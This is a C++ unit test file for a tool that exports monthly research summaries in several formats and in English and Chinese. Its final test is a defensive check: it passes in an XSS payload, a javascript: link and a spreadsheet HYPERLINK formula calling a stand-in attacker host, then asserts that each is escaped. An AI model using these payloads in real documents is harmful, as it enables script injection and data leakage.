    b.moderateNote = log.add("Staff: queues at noon are long", "staff_anecdote", 2, t, "2026-10-02");
    const std::string m2 = log.add("Complaint: waited 40 minutes", "complaint", 2, t, "2026-10-03");
    log.link(m2, s3, LinkKind::Conflicts, t);
    // Weak: internal only, old.
    const std::string w1 = log.add("Intuition: fees drive people away", "intuition", 1, t, "2025-01-10");
    const std::string w2 = log.add("Staff: customers ask about fees", "staff_anecdote", 1, t, "2025-02-10");
    // Quantitative only, in no quadrant; a single undated note.
    const std::string u1 = log.add("Transactions down 4% at branches", "transaction_db", 3, t, "2026-10-01");
    const std::string u2 = log.add("Survey: 61% use mobile", "survey", 3, t, "2026-10-01");
    const std::string one = log.add("An undated observation", "events", 4, t, "");
    b.retiredNote = log.add(kRetiredNote, "feedback", 2, t, "2026-10-03");
    b.lonely = log.add(kLonely, "feedback", 2, t, "2026-10-03", 4);

    log.insight(kModerate, {b.moderateNote, m2}, 2, at(2026, 10, 7), InsightState::Agreed, 1, "Branch queues are long at noon.");
    log.insight(kStrong, {b.strongNote, s2, s3, s4}, 2, at(2026, 10, 7), InsightState::Draft, 0,
                "Young families stop using transfers because the screen does not look safe.");
    log.insight(kWeak, {w1, w2}, 1, at(2026, 10, 8));
    log.insight(kWeakVoted, {w1, w2}, 1, at(2026, 10, 8), InsightState::Draft, 3);
    log.insight(kUnplaced, {u1, u2}, 0, at(2026, 10, 8));
    log.insight(kSingle, {one}, 4, at(2026, 10, 8));
    const std::string retired = log.insight(kRetired, {b.retiredNote}, 2, at(2026, 10, 8));
    log.updateInsight(retired, at(2026, 10, 20), [](Insight& i) { i.state = InsightState::Retired; });
    log.insight(kNovember, {b.lonely, w1}, 2, at(2026, 11, 3));
    b.october = log.summary(Month{2026, 10}, reasonWordings());
    return b;
}

const InsightBoard& board() {
    static const InsightBoard b = insightBoard();
    return b;
}

/// Where each needle is in `hay` (npos when it is not).
std::vector<std::size_t> positions(const std::string& hay, const std::vector<std::string>& needles) {
    std::vector<std::size_t> out;
    for (const auto& n : needles) out.push_back(hay.find(n));
    return out;
}

/// The insights of a written summary in order, with their evidence after each and the single
/// note in the appendix after every insight; retired and later insights absent.
void expectInsightsInOrder(const std::string& text, const std::string& what) {
    const auto p = positions(text, {kStrong, kModerate, kWeakVoted, kWeak, kUnplaced, kSingle});
    for (std::size_t i = 0; i < p.size(); ++i) ASSERT_NE(p[i], std::string::npos) << what << ": insight " << i;
    EXPECT_LT(p[0], p[1]) << what << ": strongest first";
    EXPECT_LT(p[2], p[3]) << what << ": equal strength, more votes first";
    // Each insight's evidence follows it (before the next insight).
    const std::size_t e1 = text.find("the transfer screen looks like phishing", p[0]);
    EXPECT_LT(e1, p[1]) << what;
    const std::size_t e2 = text.find("queues at noon are long", p[1]);
    EXPECT_NE(e2, std::string::npos) << what;
    EXPECT_EQ(text.find(kRetired), std::string::npos) << what << ": a retired insight is left out";
    EXPECT_EQ(text.find(kNovember), std::string::npos) << what << ": an insight made after the month is left out";
    // The note in no insight, and the note of the retired insight, are in the appendix of single
    // notes, the last section (the picture and the appendix of changes list every note too).
    const std::size_t lonely = text.rfind(kLonely);
    ASSERT_NE(lonely, std::string::npos) << what;
    for (std::size_t x : p) EXPECT_GT(lonely, x) << what;
    EXPECT_GT(text.rfind(kRetiredNote), p[0]) << what;
}

}  // namespace

TEST(SummaryInsights, StrongestFirstPerQuadrantWithTheirEvidence) {
    const MonthlySummary& s = board().october;
    const auto& q2 = s.insights[2];
    ASSERT_EQ(q2.size(), 2u) << "the retired one and November's are left out";
    EXPECT_EQ(q2[0].title, kStrong);
    EXPECT_EQ(q2[0].grade, "strong");
    EXPECT_EQ(q2[1].title, kModerate);
    EXPECT_EQ(q2[1].grade, "moderate");
    EXPECT_EQ(q2[1].state, "agreed");
    EXPECT_GT(q2[0].score, q2[1].score);
    ASSERT_EQ(q2[0].evidence.size(), 4u);
    EXPECT_EQ(q2[0].evidence[0].id, board().strongNote);
    EXPECT_EQ(q2[0].evidence[0].source, "complaint");
    EXPECT_EQ(q2[0].evidence[0].date, "2026-10-04");
    // Quadrant 1: two insights of equal strength, the one with more votes first.
    ASSERT_EQ(s.insights[1].size(), 2u);
    EXPECT_EQ(s.insights[1][0].title, kWeakVoted);
    EXPECT_EQ(s.insights[1][1].title, kWeak);
    EXPECT_EQ(s.insights[1][0].score, s.insights[1][1].score);
    EXPECT_EQ(s.insights[1][1].grade, "weak");
    // An insight of no quadrant has its own group.
    ASSERT_EQ(s.insights[0].size(), 1u);
    EXPECT_EQ(s.insights[0][0].title, kUnplaced);
    // The reasons in both languages.
    ASSERT_EQ(q2[0].reasons.size(), 2u);
    EXPECT_EQ(reasonsFor(q2[0], Lang::En).front(), "4 source kinds, 4 direct");
    EXPECT_EQ(reasonsFor(q2[0], Lang::Zh).front(), "4 种来源类型，4 条直接");
    // Single notes: only those no draft or agreed insight cites.
    std::set<std::string> single;
    for (const auto& v : s.strongest)
        for (const auto& n : v) single.insert(n.id);
    EXPECT_TRUE(single.count(board().lonely));
    EXPECT_TRUE(single.count(board().retiredNote)) << "a retired insight holds no note";
    EXPECT_FALSE(single.count(board().strongNote));
    EXPECT_FALSE(single.count(board().moderateNote));
    // The appendix says which insights cite a note.
    for (const auto& n : s.appendix) {
        if (n.id == board().strongNote) EXPECT_EQ(n.insights, std::vector<std::string>{q2[0].id});
        if (n.id == board().lonely) EXPECT_TRUE(n.insights.empty());
    }
}

TEST(SummaryInsights, ChineseReasonsAreWordedInChinese) {
    // Every reason of every insight (each branch of the rule is on this board: several kinds,
    // internal, customer, both kinds of data, only one kind, old, undated, conflicting, one note).
    std::set<std::string> all;
    for (const auto& v : board().october.insights)
        for (const auto& i : v)
            for (const auto& r : reasonsFor(i, Lang::Zh)) {
                all.insert(r);
                for (char c : r) EXPECT_FALSE((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) << r;
            }
    for (const char* expected : {"仅有定性", "仅有定量", "定量与定性兼有", "无收集日期", "仅 1 条便签", "1 条相互矛盾的便签", "1 条由客户发起"})
        EXPECT_TRUE(all.count(expected)) << expected;
}

TEST(SummaryInsights, EveryFormatListsThemStrongestFirstWithEvidence) {
    TempDir dir;
    const MonthlySummary& s = board().october;
    const std::string md = readFile(write(s, dir, "i.md"));
    expectInsightsInOrder(md, "markdown");
    EXPECT_TRUE(contains(md, "### Insights not yet in a quadrant"));
    EXPECT_TRUE(contains(md, "**Evidence strength:** strong \\(" + std::to_string(s.insights[2][0].score) + "\\)"));
    EXPECT_TRUE(contains(md, "4 source kinds, 4 direct; 2 started by the customer; quantitative and qualitative; newest 2026-10"));
    EXPECT_TRUE(contains(md, "Source: Customer complaints; Date: 2026-10-04"));
    EXPECT_LT(md.find("## 8. Appendix"), md.rfind(kLonely));
    const std::string html = readFile(write(s, dir, "i.html"));
    EXPECT_EQ(checkWellFormed(html), "");
    expectInsightsInOrder(html, "html");
    EXPECT_TRUE(contains(html, "newest 2026-10"));
    const std::string pdf = pdfText(write(s, dir, "i.pdf"));
    expectInsightsInOrder(pdf, "pdf");
    EXPECT_TRUE(contains(pdf, "Evidence strength: strong"));

    // CSV: an insight row each, strongest first, with its evidence ids; then the appendix notes.
    bool crlf = false;
    const auto rows = parseCsv(readFile(write(s, dir, "i.csv")).substr(3), crlf);
    std::vector<std::vector<std::string>> insightRows;
    for (const auto& r : rows)
        if (r.size() == 23 && r[16] == "insight") insightRows.push_back(r);
    ASSERT_EQ(insightRows.size(), 6u);
    EXPECT_EQ(insightRows[0][2], kWeakVoted);  // quadrant 1 first
    EXPECT_EQ(insightRows[2][2], kStrong);
    EXPECT_EQ(insightRows[2][18], "strong");
    EXPECT_EQ(insightRows[2][19], std::to_string(s.insights[2][0].score));
    std::string ids;
    for (const auto& n : s.insights[2][0].evidence) ids += (ids.empty() ? "" : " ") + n.id;
    EXPECT_EQ(insightRows[2][21], ids);
    EXPECT_EQ(insightRows[3][2], kModerate);
    EXPECT_EQ(insightRows[5][2], kUnplaced);  // no quadrant last
    EXPECT_EQ(insightRows[5][1], "");
    EXPECT_EQ(rows.size(), 1 + insightRows.size() + s.appendix.size());

    // JSON: insights per quadrant with their strength and evidence ids.
    RAPIDJSON_NAMESPACE::Document d;
    const std::string j = readFile(write(s, dir, "i.json"));
    d.Parse(j.c_str());
    ASSERT_FALSE(d.HasParseError());
    EXPECT_EQ(d["version"].GetInt(), 2);
    ASSERT_EQ(d["insights"].Size(), 5u);
    const auto& q2 = d["insights"][1];
    EXPECT_EQ(q2["quadrant"].GetInt(), 2);
    ASSERT_EQ(q2["insights"].Size(), 2u);
    EXPECT_EQ(std::string(q2["insights"][0]["title"].GetString()), kStrong);
    EXPECT_EQ(std::string(q2["insights"][0]["strength"]["grade"].GetString()), "strong");
    EXPECT_EQ(q2["insights"][0]["strength"]["score"].GetInt(), s.insights[2][0].score);
    EXPECT_EQ(std::string(q2["insights"][0]["strength"]["reasons"][0].GetString()), "4 source kinds, 4 direct");
    EXPECT_EQ(std::string(q2["insights"][0]["notes"][0].GetString()), board().strongNote);
    EXPECT_EQ(std::string(q2["insights"][1]["title"].GetString()), kModerate);
    EXPECT_EQ(d["insights"][4]["quadrant"].GetInt(), 0);
    EXPECT_EQ(std::string(d["insights"][4]["insights"][0]["title"].GetString()), kUnplaced);
    EXPECT_FALSE(contains(j, kRetired));
    EXPECT_FALSE(contains(j, kNovember));
}

TEST(SummaryInsights, ChineseSummaryHasChineseWording) {
    TempDir dir;
    const MonthlySummary& s = board().october;
    const std::string md = readFile(write(s, dir, "zh.md", Lang::Zh));
    expectInsightsInOrder(md, "markdown zh");
    EXPECT_TRUE(contains(md, "## 三、洞察（按证据强度排列）"));
    EXPECT_TRUE(contains(md, "### 尚未归入象限的洞察"));
    EXPECT_TRUE(contains(md, "**证据强度：** 强（"));
    EXPECT_TRUE(contains(md, "4 种来源类型，4 条直接；2 条由客户发起；定量与定性兼有"));
    EXPECT_FALSE(contains(md, "source kinds"));
    EXPECT_FALSE(contains(md, "Evidence"));
    const std::string pdf = pdfText(write(s, dir, "zh.pdf", Lang::Zh));
    expectInsightsInOrder(pdf, "pdf zh");
    EXPECT_TRUE(contains(pdf, "证据强度：强"));
    EXPECT_TRUE(contains(pdf, "八、附录：尚未归入任何洞察的便签"));
    EXPECT_FALSE(contains(pdf, "source kinds"));
    const std::string json = readFile(write(s, dir, "zh.json", Lang::Zh));
    EXPECT_TRUE(contains(json, "4 种来源类型，4 条直接"));
    bool crlf = false;
    const auto rows = parseCsv(readFile(write(s, dir, "zh.csv", Lang::Zh)).substr(3), crlf);
    EXPECT_EQ(rows[0][16], "记录类型");
    bool found = false;
    for (const auto& r : rows)
        if (r.size() == 23 && r[2] == kStrong) found = r[16] == "洞察" && r[18] == "强";
    EXPECT_TRUE(found);
}

TEST(SummaryInsights, AnInsightsTextIsBoardTextInEveryFormat) {
    // An insight's title and statement are typed by people (or come from an imported canvas's
    // group label): escaped and defused like a note's text.
    Log log(at(2026, 8, 1));
    const std::string a = log.add("Ordinary evidence one", "complaint", 1, at(2026, 10, 2), "2026-10-01");
    const std::string b = log.add("Ordinary evidence two", "survey", 1, at(2026, 10, 2), "2026-10-01");
    log.insight("[click me](javascript:alert(1)) <img src=x onerror=alert(1)>", {a, b}, 1, at(2026, 10, 3), InsightState::Draft, 0,
                "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
    const MonthlySummary s = log.summary(Month{2026, 10});
    TempDir dir;
    const std::string md = readFile(write(s, dir, "h.md"));
    for (const char* live : {"](javascript", "<img", "http://"}) EXPECT_EQ(md.find(live), std::string::npos) << live;
    EXPECT_NE(md.find("\\[click me\\]\\(javascript:alert\\(1\\)\\)"), std::string::npos);
    const std::string html = readFile(write(s, dir, "h.html"));
    EXPECT_EQ(checkWellFormed(html), "");
    EXPECT_EQ(html.find("<img"), std::string::npos);
    EXPECT_NE(html.find("&lt;img src=x"), std::string::npos);
    bool crlf = false;
    const auto rows = parseCsv(readFile(write(s, dir, "h.csv")).substr(3), crlf);
    ASSERT_GE(rows.size(), 2u);
    EXPECT_EQ(rows[1][16], "insight");
    EXPECT_EQ(rows[1][3], "'=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
    EXPECT_TRUE(contains(pdfText(write(s, dir, "h.pdf")), "[click me](javascript:alert(1))"));
}
